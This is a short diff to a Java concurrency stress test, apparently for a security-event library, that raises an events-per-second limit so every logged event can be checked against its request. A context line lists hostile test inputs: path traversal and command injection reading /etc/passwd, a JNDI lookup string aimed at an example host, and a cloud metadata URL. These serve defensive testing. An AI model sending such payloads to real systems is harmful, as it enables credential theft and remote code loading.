@@ -43,7 +43,10 @@ class ConcurrencyStressTest {
       "../../../etc/passwd", "; cat /etc/passwd", "${jndi:ldap://x.example/a}", "http://169.254.169.254/latest/");
 
   private final ListSink sink = new ListSink();
-  private final Map<String, String> env = Map.of("WARDEN_TIME_BUDGET_MS", "60000");
+  // Flood control would (rightly) summarise most of these events; this test checks that every
+  // event that is written belongs to its request, so the rate cap is lifted.
+  private final Map<String, String> env = Map.of("WARDEN_TIME_BUDGET_MS", "60000",
+      "WARDEN_MAX_EVENTS_PER_SECOND", "1000000");
 
   private static boolean hostile(int t, int i) {
     return (t * 31 + i) % 3 == 0;
